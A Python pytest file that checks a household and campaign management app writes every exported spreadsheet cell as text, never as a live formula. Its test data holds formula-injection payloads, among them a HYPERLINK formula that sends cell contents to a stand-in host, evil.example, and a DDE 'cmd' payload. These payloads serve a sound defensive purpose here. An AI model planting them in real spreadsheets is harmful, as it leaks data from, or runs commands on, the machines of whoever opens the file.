"""Issue 29, item 7: every text cell any export writes is text, never a live formula (one helper in
core.spreadsheets does it for all): the households export, a campaign's progress export, the import's errors
workbook."""
import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.factories import DISTRICT, TOWN_A, make_user
from tests.households.conftest import make_household

V1 = "310112102201"
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
        "-2+3"]


def _no_formulas(content):
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_the_households_export_writes_names_and_addresses_as_text(geography, login):
    make_household("H001", head=EVIL[1], address=EVIL[0], group=EVIL[2])
    make_household("H002", head=EVIL[3], address=EVIL[4], group=EVIL[5])
    r = login(make_user("village", V1)).get(f"/api/households/export.xlsx?village={V1}")
    assert r.status_code == 200
    texts = _no_formulas(r.content)
    assert set(EVIL) <= set(texts)  # kept as given, as text


def test_a_campaign_name_stays_text_in_its_progress_export(geography, login):
    api = login(make_user("district", DISTRICT))
    cid = api.post("/api/campaigns/", {"name": "=1+1", "areas": [TOWN_A], "start": "2026-01-05",
                                       "end": "2026-02-20",
                                       "quotas": [{"name": "=SUM(1,2)", "categories": ["dry_toilet"],
                                                   "per_village_per_week": 2}]}, format="json").json()["id"]
    r = api.get(f"/api/campaigns/{cid}/progress/?week=2026-W03&export=xlsx")
    assert r.status_code == 200
    texts = _no_formulas(r.content)
    assert any("=1+1" in t for t in texts) or any("=SUM(1,2)" in t for t in texts)


def test_the_import_errors_workbook_echoes_bad_values_as_text(geography, login):
    buf = io.StringIO()
    csv.writer(buf).writerows([["经度", "纬度", "类别", "日期", "描述"],
                               ["=cmd|' /C calc'!A0", "31.11", "=1+1", "2026-03-02", '=HYPERLINK("x","y")']])
    upload = io.BytesIO(buf.getvalue().encode("utf-8-sig"))
    upload.name = "problems.csv"
    r = login(make_user("town", TOWN_A)).post("/api/issues/import/?errors=xlsx", {"file": upload},
                                              format="multipart")
    assert r.status_code == 200, r.content[:300]
    texts = _no_formulas(r.content)
    assert "=cmd|' /C calc'!A0" in texts


@pytest.mark.parametrize("value", EVIL)
def test_the_helper_writes_any_text_as_text(value):
    from core.spreadsheets import add_sheet, new_workbook, workbook_bytes

    wb = new_workbook()
    ws = add_sheet(wb, "表", [value, "列"])
    ws.append([value, 3])
    ws.cell(row=3, column=1, value=value)
    texts = _no_formulas(workbook_bytes(wb))
    assert texts.count(value) == 3
